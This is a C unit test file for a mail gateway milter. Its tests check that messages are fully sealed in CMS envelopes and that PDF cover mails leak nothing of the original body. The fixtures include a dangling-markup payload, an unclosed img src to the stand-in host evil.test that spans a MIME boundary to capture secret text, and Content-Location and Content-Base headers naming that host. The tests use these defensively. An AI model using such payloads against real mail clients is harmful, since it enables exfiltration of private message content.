/* What is sealed is one entity, and all of it. links: sealgate-milter */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <openssl/cms.h>
#include <openssl/evp.h>
#include <openssl/x509.h>
#include <stdlib.h>
#include <string.h>

#include "config/conf.h"
#include "gateway/base/fd.h"
#include "gateway/base/str.h"
#include "milter/outer.h"

struct bench {
	EVP_PKEY *key;
	X509 *x509;
	struct envelope_certificate certificate;
};

static int start(void **state)
{
	static struct bench b;
	unsigned char *der = NULL;

	b.key = EVP_EC_gen("P-256");
	b.x509 = X509_new();
	assert_non_null(b.key);
	assert_non_null(b.x509);
	assert_true(X509_set_version(b.x509, 2) &&
	    ASN1_INTEGER_set(X509_get_serialNumber(b.x509), 1) &&
	    X509_gmtime_adj(X509_getm_notBefore(b.x509), 0) != NULL &&
	    X509_gmtime_adj(X509_getm_notAfter(b.x509), 3600) != NULL &&
	    X509_set_pubkey(b.x509, b.key) && X509_sign(b.x509, b.key, EVP_sha256()));
	b.certificate.size = (size_t)i2d_X509(b.x509, &der);
	b.certificate.der = der;
	*state = &b;
	return 0;
}

static int end(void **state)
{
	struct bench *b = *state;

	OPENSSL_free((void *)(uintptr_t)b->certificate.der);
	X509_free(b->x509);
	EVP_PKEY_free(b->key);
	return 0;
}

static void add(struct message *message, const char *name, const char *value)
{
	assert_int_equal(message_add_header(message, name, value, 1000000), SG_OK);
}

/* What the recipient's mail program finds in the body. */
static void open_body(const struct bench *b, struct spool *body, struct buf *out)
{
	const unsigned char *text;
	BIO *opened = BIO_new(BIO_s_mem());
	CMS_ContentInfo *cms;
	char *data = NULL;
	BIO *in;
	size_t size;
	long got;

	assert_int_equal(spool_map(body, &text, &size, NULL), SG_OK);
	in = BIO_push(BIO_new(BIO_f_base64()), BIO_new_mem_buf(text, (int)size));
	cms = d2i_CMS_bio(in, NULL);
	assert_non_null(cms);
	assert_int_equal(CMS_decrypt(cms, b->key, b->x509, NULL, opened, 0), 1);
	got = BIO_get_mem_data(opened, &data);
	assert_int_equal(buf_append(out, data, (size_t)got), SG_OK);
	CMS_ContentInfo_free(cms);
	BIO_free_all(in);
	BIO_free(opened);
}

/* Every field of that name is changed or gone. */
static void check_gone(const struct message *message, const struct edits *edits, const char *prefix)
{
	for (size_t i = 0; i < message->header_count; i++) {
		const char *name = message->headers[i].name;
		bool found = !str_starts_case(name, prefix);

		for (size_t n = 0; n < edits->count && !found; n++)
			found = str_equal_case(edits->items[n].name, name) &&
			    edits->items[n].index == message_index(message, i);
		if (!found)
			fail_msg("%s %u stays", name, message_index(message, i));
	}
}

static void check_sealed(const struct bench *b, const struct message *message, const char *body,
    size_t size, const char *expected)
{
	struct outer_source source = { .message = message, .body = (const unsigned char *)body,
		.body_size = size, .memory_max = 64 * 1024 * 1024, .subject = " plan" };
	struct edits edits;
	struct buf opened;
	struct fail f;

	edits_init(&edits);
	buf_init(&opened, (size_t)64 * 1024 * 1024);
	assert_int_equal(outer_envelope(&source, &b->certificate, 1, &edits, &f), SG_OK);
	open_body(b, edits.body, &opened);
	assert_true(opened.size == strlen(expected) + size);
	assert_memory_equal(opened.data, expected, strlen(expected));
	assert_memory_equal(opened.data + strlen(expected), body, size);
	check_gone(message, &edits, "Content-");
	buf_free(&opened);
	edits_free(&edits);
}

/* Preamble, parts, epilogue, all Content-* fields of the message, twice where they stand twice. */
static void an_envelope_has_the_whole_entity_in_it(void **state)
{
	static const char body[] = "<img src=\"http://evil.test/\r\n--b\r\n\r\nsecret\r\n"
	    "--b--\r\n\">\r\nContent-Type: text/html\r\n\r\nmore";
	struct message message;

	message_init(&message);
	add(&message, "Subject", " [secure] plan");
	add(&message, "content-type", " multipart/mixed;\n boundary=b");
	add(&message, "Content-Type", " text/html");
	add(&message, "Content-Location", " http://evil.test/");
	add(&message, "Content-X-Odd", " y");
	add(&message, "X-Other", " z");
	check_sealed(*state, &message, body, sizeof(body) - 1,
	    "content-type: multipart/mixed;\r\n boundary=b\r\nContent-Type: text/html\r\n"
	    "Content-Location: http://evil.test/\r\nContent-X-Odd: y\r\n\r\n");
	message_free(&message);
}

/* A message without any field of MIME, and bodies that no mail program writes. */
static void odd_bodies_come_out_as_they_went_in(void **state)
{
	static const char odd[] = "a\0b\rc\n.\r\n\r\n..\r\n\n\r\0";
	const size_t size = (size_t)10 * 1024 * 1024;
	struct message message;
	char *line = malloc(size);

	assert_non_null(line);
	memset(line, 'x', size);
	message_init(&message);
	add(&message, "Subject", " [secure] plan");
	check_sealed(*state, &message, odd, sizeof(odd) - 1, "\r\n");
	check_sealed(*state, &message, line, size, "\r\n");
	check_sealed(*state, &message, "", 0, "\r\n");
	free(line);
	message_free(&message);
}

/* The mail around a PDF has our words and the file, and not a byte of the message's body. */
static void the_mail_around_a_pdf_is_ours_alone(void **state)
{
	static const char body[] = "--b\r\nContent-Type: text/html\r\n\r\nsecret\r\n--b--\r\n";
	struct outer_source source = { .body = (const unsigned char *)body,
		.body_size = sizeof(body) - 1, .memory_max = 1024 * 1024,
		.placeholder = "Protected" };
	struct message message;
	struct cover cover;
	struct conf *conf;
	struct edits edits;
	const unsigned char *text;
	size_t size;
	int pdf;
	struct fail f;

	(void)state;
	message_init(&message);
	memset(&cover, 0, sizeof(cover));
	assert_int_equal(conf_default(&conf, &f), SG_OK);
	add(&message, "From", " Alice <alice@example.com>");
	add(&message, "Subject", " secret subject");
	add(&message, "Content-Type", " multipart/mixed; boundary=b");
	add(&message, "Content-Base", " http://evil.test/");
	cover.conf = conf;
	source.cover = &cover;
	source.message = &message;
	edits_init(&edits);
	assert_int_equal(fd_memory("pdf", &pdf, &f), SG_OK);
	assert_int_equal(fd_write_all(pdf, "%PDF", 4, &f), SG_OK);
	assert_int_equal(outer_pdf(&source, pdf, 4, &edits, &f), SG_OK);
	assert_int_equal(spool_map(edits.body, &text, &size, &f), SG_OK);
	assert_null(memmem(text, size, "secret", 6));
	assert_null(memmem(text, size, "evil", 4));
	assert_null(memmem(text, size, "--b\r\n", 5));
	check_gone(&message, &edits, "Content-");
	edits_free(&edits);
	fd_close(&pdf);
	conf_free(conf);
	message_free(&message);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(an_envelope_has_the_whole_entity_in_it),
		cmocka_unit_test(odd_bodies_come_out_as_they_went_in),
		cmocka_unit_test(the_mail_around_a_pdf_is_ours_alone),
	};

	return cmocka_run_group_tests(tests, start, end);
}
